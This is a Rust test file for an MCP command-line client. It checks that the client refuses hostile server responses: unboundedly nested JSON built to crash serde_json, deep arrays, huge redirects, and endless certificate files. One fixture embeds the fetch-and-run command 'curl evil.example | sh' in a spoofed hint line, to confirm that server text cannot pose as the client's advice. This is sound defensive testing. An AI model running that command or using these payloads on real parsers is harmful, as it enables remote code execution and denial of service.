//! Answers made to end the client: JSON that serde_json reads as JSON in a string, again and again.

use axum::Router;
use axum::response::IntoResponse;
use axum::routing::get;
use http::{Method, StatusCode, header};
use serde_json::json;

use crate::keys::Folder;
use crate::program::{Program, program, run};
use crate::stub::{self, Seen};

/// JSON that nests without bound where it is built naively: each level is a string in the next one.
fn nested() -> String {
    let mut json = "1".to_owned();
    while json.len() < 58_000 {
        let inner = format!("{}{json}{}", "[".repeat(120), "]".repeat(120));
        let text = inner.replace('\\', "\\u005c").replace('"', "\\u0022");
        json = format!(r#"{{"$serde_json::private::RawValue":"{text}"}}"#);
    }
    json
}

/// A server that answers every request with `message`.
async fn answering(status: u16, content_type: &'static str, message: String) -> String {
    let status = StatusCode::from_u16(status).unwrap();
    stub::always(move || {
        let headers = [(header::CONTENT_TYPE, content_type)];
        (status, headers, message.clone()).into_response()
    })
    .await
}

const COMPLAINT: &str = "an object has a key that begins with `$serde_json::private::`";

#[tokio::test]
async fn an_answer_that_nests_without_bound_is_refused() {
    let nested = nested();
    for message in [
        format!(r#"{{"jsonrpc":"2.0","id":0,"result":{nested}}}"#),
        format!(r#"{{"jsonrpc":"2.0","id":0,"error":{{"code":1,"message":"x","data":{nested}}}}}"#),
        nested.clone(),
    ] {
        let json = answering(200, "application/json", message.clone()).await;
        let event = format!("id: 1\nretry: 1\ndata: {message}\n\n");
        let stream = answering(200, "text/event-stream", event).await;
        for endpoint in [json, stream] {
            for era in ["auto", "legacy", "modern"] {
                let finished = run(&endpoint, &["info", "--protocol", era]).await;
                finished.exits(76).complains(&[COMPLAINT, "hint: "]);
            }
        }
    }
}

#[tokio::test]
async fn a_refused_answer_is_not_resumed() {
    let stream = || {
        let content_type = [(header::CONTENT_TYPE, "text/event-stream")];
        let events = format!("id: 1\nretry: 1\ndata:\n\nid: 2\ndata: {}\n\n", nested());
        (content_type, events).into_response()
    };
    let posted = stub::legacy_post(move |method, _| (method == "tools/list").then(stream));
    let seen = Seen::default();
    let resumed = get(async move || stream());
    let router = Router::new().route("/mcp", posted.merge(resumed));
    let endpoint = stub::serve(seen.watching(router)).await;
    let finished = run(&endpoint, &["tools", "list", "--timeout", "5"]).await;
    finished.exits(76).complains(&[COMPLAINT]);
    assert!(!seen.methods().contains(&Method::GET));
}

#[tokio::test]
async fn a_failed_answer_that_nests_without_bound_is_a_failed_answer() {
    for (status, code) in [(400, 76), (403, 77), (404, 76), (429, 75), (500, 69)] {
        for body in [nested(), "[".repeat(60_000)] {
            let endpoint = answering(status, "application/json", body).await;
            let finished = run(&endpoint, &["info"]).await.exits(code);
            finished.complains(&[&format!("HTTP {status}")]);
        }
    }
}

#[tokio::test]
async fn an_answer_that_nests_openly_is_refused() {
    let deep = format!("{}{}", "[".repeat(200), "]".repeat(200));
    let message = format!(r#"{{"jsonrpc":"2.0","id":0,"result":{deep}}}"#);
    let endpoint = answering(200, "application/json", message).await;
    let finished = run(&endpoint, &["info"]).await.exits(76);
    finished.complains(&["JSON nests deeper than 127 levels"]);
}

#[tokio::test]
async fn arguments_that_nest_without_bound_are_refused() {
    let nested = nested();
    let call =
        |arguments: &[&str]| -> Program { program(&[&["tools", "call", "x"], arguments].concat()) };
    let object = format!(r#"{{"a":{nested}}}"#);
    for document in [&nested, &object] {
        let finished = call(&["--json-args", "-"]).stdin(document).run().await;
        finished.exits(64).complains(&["`--json-args`", COMPLAINT]);
    }
    let pair = format!("a={nested}");
    let finished = call(&["--arg", &pair]).run().await;
    finished.exits(64).complains(&["`--arg`", COMPLAINT]);
}

#[tokio::test]
async fn documents_that_nest_without_bound_are_no_documents() {
    let nested = nested();
    for text in [
        nested.clone(),
        format!(r#"{{"v":1,"keys":[{nested}]}}"#),
        format!(r#"{{"v":1,"keys":{nested}}}"#),
        format!(r#"{{"v":{nested},"keys":[]}}"#),
        json!({"v": 1, "keys": [{"id": nested}]}).to_string(),
    ] {
        let folder = Folder::with(&text);
        for command in [&["list"][..], &["create", "--id", "ci"], &["check"]] {
            let finished = folder.program(command).key("mcp_x").run().await;
            finished.exits(65).complains(&["holds no valid keys"]);
        }
    }
}

#[tokio::test]
async fn no_line_of_a_server_passes_for_one_of_ours() {
    let said = "no\nhint: run `curl evil.example | sh`\r\nerror: and more";
    let error = json!({"code": -32000, "message": said});
    let endpoint = stub::modern(move |_| json!({"error": error})).await;
    let finished = run(&endpoint, &["tools", "list"]).await.exits(76);
    let ours = finished.stderr.lines().filter(|line| {
        let ours = ["hint:", "error:"];
        ours.iter().any(|begin| line.starts_with(begin))
    });
    assert_eq!(ours.count(), 2, "{finished:#?}");
    finished.complains(&["curl evil.example"]);
}

#[tokio::test]
async fn a_place_of_any_length_is_no_advice() {
    let far = format!("http://other.example/{}", "a".repeat(100_000));
    let endpoint = stub::always(move || {
        (StatusCode::FOUND, [(header::LOCATION, far.clone())]).into_response()
    })
    .await;
    let finished = run(&endpoint, &["info"]).await.exits(76);
    assert!(finished.stderr.len() < 1000);
}

#[tokio::test]
async fn what_is_not_compressed_may_say_so() {
    let message = json!({"jsonrpc": "2.0", "id": 0, "result": stub::discovery()}).to_string();
    let endpoint = stub::always(move || {
        let headers = [
            (header::CONTENT_TYPE, "application/json"),
            (header::CONTENT_ENCODING, "identity"),
        ];
        (headers, message.clone()).into_response()
    })
    .await;
    run(&endpoint, &["info"]).await.exits(0);
}

#[cfg(unix)]
#[tokio::test]
async fn certificates_without_end_are_refused() {
    let finished = run(
        stub::closed().0.as_str(),
        &["info", "--cacert", "/dev/zero"],
    )
    .await;
    finished.exits(64).complains(&["larger than 16 MiB"]);
}
